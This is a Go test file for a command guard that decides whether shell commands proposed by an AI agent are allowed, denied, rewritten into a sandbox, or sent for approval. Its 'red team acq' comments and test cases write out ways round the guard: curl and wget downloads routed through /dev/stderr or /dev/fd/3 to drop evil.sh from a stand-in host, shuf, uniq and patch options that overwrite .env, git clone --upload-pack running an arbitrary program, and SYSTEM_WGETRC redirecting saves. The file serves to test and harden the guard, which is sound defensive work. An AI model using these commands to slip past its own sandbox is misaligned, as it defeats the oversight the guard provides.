@@ -1,0 +1,229 @@
+package rewrite
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestDescriptorRouteDownloads (red team acq): a download saved to a
+// path naming one of the downloader's descriptors (curl -o /dev/stderr,
+// -o /dev/fd/3, wget -O /dev/stderr) was followed down the pipe of the
+// downloader's stdout, not the one the descriptor points at: with 2>&1
+// >/dev/null the body goes down the pipe while stdout goes to /dev/null,
+// and cat > f wrote it into the project (allow). The pipe the
+// descriptor names is followed now. Look-alikes: the pipe's reader
+// writes no file, the descriptor is /dev/null, stdout alone is piped.
+func TestDescriptorRouteDownloads(t *testing.T) {
+	t.Parallel()
+	u := "https://h.example/evil.sh"
+	testRule(t, "curl", []ruleCase{
+		{"curl -s -o /dev/stderr " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
+		{"curl -o /dev/stderr " + u + " 2>&1 >/dev/null | tee evil.sh", Rewrite},
+		{"curl -so /dev/stderr " + u + " 2>&1 1>/dev/null | sort -o evil.sh", Rewrite},
+		{"curl -o /dev/fd/2 " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
+		{"curl -o /dev/stderr " + u + " 3>&1 1>&2 2>&3 | cat > evil.sh", Rewrite},
+		{"curl -o /dev/fd/3 " + u + " 3>&1 >/dev/null | tee evil.sh", Rewrite},
+		{"curl -s -o /dev/stderr " + u + " 2>&1 >/dev/null | wc -c", Allow},
+		{"curl -s -o /dev/stderr " + u + " 2>/dev/null | cat > out.txt", Allow},
+		{"curl -s -o /dev/null " + u + " 2>&1 | cat > err.txt", Allow},
+		{"curl -s " + u + " 2>/dev/null | sha256sum", Allow},
+	})
+	testRule(t, "wget", []ruleCase{
+		{"wget -qO /dev/stderr " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
+		{"wget -qO /dev/stderr " + u + " 2>&1 >/dev/null | wc -c", Allow},
+	})
+}
+
+// TestDescriptorRouteDownloadsOracle runs the attack with the real curl
+// and bash against a loopback server: the body lands in the project's
+// file as written, and the rewritten command puts it in the sandbox.
+func TestDescriptorRouteDownloadsOracle(t *testing.T) {
+	t.Parallel()
+	curl, err := exec.LookPath("curl")
+	if err != nil {
+		t.Skip("no curl")
+	}
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash")
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("echo PWNED\n")) }))
+	defer srv.Close()
+	for _, tmpl := range []string{
+		"curl -s -o /dev/stderr URL 2>&1 >/dev/null | cat > evil.sh",
+		"curl -s -o /dev/fd/3 URL 3>&1 >/dev/null | tee evil.sh >/dev/null",
+	} {
+		cmd := strings.ReplaceAll(tmpl, "URL", srv.URL+"/a")
+		run := func(dir, text string) {
+			c := exec.Command(bash, "-c", text)
+			c.Dir = dir
+			c.Env = []string{"PATH=" + filepath.Dir(curl) + ":/usr/bin:/bin", "HOME=" + dir}
+			if out, err := c.CombinedOutput(); err != nil {
+				t.Errorf("%s: %v %s", text, err, out)
+			}
+		}
+		plain := t.TempDir()
+		run(plain, cmd)
+		if b, _ := os.ReadFile(filepath.Join(plain, "evil.sh")); string(b) != "echo PWNED\n" {
+			t.Errorf("%s: the real command wrote %q to evil.sh, want the body (the attack no longer works as modelled)", cmd, b)
+		}
+		proj := t.TempDir()
+		sb := filepath.Join(proj, "agent_sandbox")
+		if err := os.Mkdir(sb, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		r := Check(&Config{Cwd: proj, Project: proj, Home: proj, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}, cmd)
+		if r.Decision != Rewrite {
+			t.Errorf("%s: %s %v, want rewrite", cmd, r.Decision, r.Findings)
+			continue
+		}
+		run(proj, r.Rewritten)
+		if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
+			t.Errorf("%s: the rewritten %s left evil.sh in the project", cmd, r.Rewritten)
+		}
+		if b, _ := os.ReadFile(filepath.Join(sb, "evil.sh")); string(b) != "echo PWNED\n" {
+			t.Errorf("%s: the rewritten %s left %q in the sandbox's evil.sh, want the body", cmd, r.Rewritten, b)
+		}
+	}
+}
+
+// TestOutputOptionReadings (red team acq): shuf -e was read as taking a
+// value (shuf -eo F A B wrote F unguarded), shuf, uniq and patch did not
+// take their long options by prefix as getopt_long does (shuf --out=F,
+// patch --out=F), and uniq --group/--all-repeated took the next word as
+// their value, which they only take attached (uniq --group IN OUT writes
+// OUT). Look-alikes keep their decision.
+func TestOutputOptionReadings(t *testing.T) {
+	t.Parallel()
+	testRuleWith(t, guardedConfig(), "bash-write", []ruleCase{
+		{"shuf -eo .env a b", Deny},
+		{"shuf -zeo .env a b", Deny},
+		{"shuf --out=.env x", Deny},
+		{"shuf --outp .env x", Deny},
+		{"uniq --group x .env", Deny},
+		{"uniq --all-repeated x .env", Deny},
+		{"uniq --gro x .env", Deny},
+		{"uniq --skip-f 1 x .env", Deny},
+		{"patch --out=.env a x.patch", Deny},
+		{"patch --outp=.env a x.patch", Deny},
+		{"shuf -e a b", Allow},
+		{"shuf -eo out.txt a b", Allow},
+		{"shuf --out=out.txt x", Allow},
+		{"uniq --group x", Allow},
+		{"uniq --group=append x out.txt", Allow},
+		{"uniq --count x", Allow},
+		{"patch --out=out.txt a x.patch", Allow},
+	})
+}
+
+// TestOutputOptionReadingsOracle checks the readings with the real
+// programs: each writes the file the reading names.
+func TestOutputOptionReadingsOracle(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct{ prog, script string }{
+		{"shuf", "shuf -eo OUT x"},
+		{"shuf", "shuf --out=OUT in.txt"},
+		{"uniq", "uniq --group in.txt OUT"},
+		{"uniq", "uniq --all-repeated in.txt OUT"},
+		{"patch", "patch -s --out=OUT in.txt x.patch"},
+	} {
+		t.Run(tc.script, func(t *testing.T) {
+			if _, err := exec.LookPath(tc.prog); err != nil {
+				t.Skip("no " + tc.prog)
+			}
+			dir := t.TempDir()
+			if err := os.WriteFile(filepath.Join(dir, "in.txt"), []byte("x\nx\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(filepath.Join(dir, "x.patch"), []byte("--- in.txt\n+++ in.txt\n@@ -1,2 +1,2 @@\n-x\n+y\n x\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			args := strings.Fields(strings.ReplaceAll(tc.script, "OUT", "written"))
+			c := exec.Command(args[0], args[1:]...)
+			c.Dir = dir
+			if out, err := c.CombinedOutput(); err != nil {
+				t.Fatalf("%s: %v %s", tc.script, err, out)
+			}
+			if _, err := os.Stat(filepath.Join(dir, "written")); err != nil {
+				t.Errorf("%s did not write the file the reading names: %v", tc.script, err)
+			}
+		})
+	}
+}
+
+// TestGitProgramOptionOracle checks with the real git that clone takes
+// --upload-pack by a prefix and -u in a cluster, and runs the program
+// for a file:// repository: approve.go's gitSubOptionRunsCode.
+func TestGitProgramOptionOracle(t *testing.T) {
+	t.Parallel()
+	git, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("no git")
+	}
+	repo := t.TempDir()
+	for _, args := range [][]string{{"init", "-q"}, {"-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "x"}} {
+		c := exec.Command(git, args...)
+		c.Dir = repo
+		if out, err := c.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v %s", args, err, out)
+		}
+	}
+	for _, form := range [][]string{{"--upload=P"}, {"--upl", "P"}, {"-qu", "P"}, {"-uP"}} {
+		dir := t.TempDir()
+		marker := filepath.Join(dir, "ran")
+		prog := "sh -c 'touch " + marker + "; exec git-upload-pack \"$@\"' x"
+		var args []string
+		for _, a := range form {
+			args = append(args, strings.ReplaceAll(a, "P", prog))
+		}
+		args = append(append([]string{"clone", "-q"}, args...), "file://"+repo, filepath.Join(dir, "c"))
+		out, _ := exec.Command(git, args...).CombinedOutput()
+		if _, err := os.Stat(marker); err != nil {
+			t.Errorf("git clone %v did not run the program (%s): the reading is wrong", form, out)
+		}
+		cfg := &Config{Cwd: "/p", Project: "/p", Home: "/h", Sandbox: "/sb", Mode: ModeRewrite, Approve: ApproveAuto}
+		cmd := "git clone " + strings.Join(form, " ") + " https://x/a/b.git"
+		if r := Check(cfg, cmd); r.Approve {
+			t.Errorf("%s: approved, want no decision (it runs P)", cmd)
+		}
+	}
+}
+
+// TestSystemWgetrc (red team acq): wget reads the file SYSTEM_WGETRC
+// names whatever --config says, and its output_document overrides the
+// -P the rewrite adds: SYSTEM_WGETRC=./cfg wget URL saved into the
+// project (rewritten and approved). It asks now, as WGETRC does.
+func TestSystemWgetrc(t *testing.T) {
+	t.Parallel()
+	testRule(t, "wget", []ruleCase{
+		{"SYSTEM_WGETRC=./cfg wget https://h.example/a", Ask},
+		{"env SYSTEM_WGETRC=./cfg wget https://h.example/a", Ask},
+		{"SYSTEM_WGETRC=./cfg wget --config=/dev/null https://h.example/a", Ask},
+		{"wget https://h.example/a", Rewrite},
+		{"wget --no-config https://h.example/a", Rewrite},
+	})
+	wget, err := exec.LookPath("wget")
+	if err != nil {
+		t.Skip("no wget")
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("echo PWNED\n")) }))
+	defer srv.Close()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "cfg"), []byte("output_document = evil.sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	c := exec.Command(wget, "-q", "-P", filepath.Join(dir, "sandbox"), srv.URL+"/a")
+	c.Dir = dir
+	c.Env = []string{"SYSTEM_WGETRC=./cfg", "HOME=" + dir, "PATH=/usr/bin:/bin"}
+	if out, err := c.CombinedOutput(); err != nil {
+		t.Fatalf("wget: %v %s", err, out)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "evil.sh")); err != nil {
+		t.Errorf("wget with SYSTEM_WGETRC did not save where output_document says: %v", err)
+	}
+}
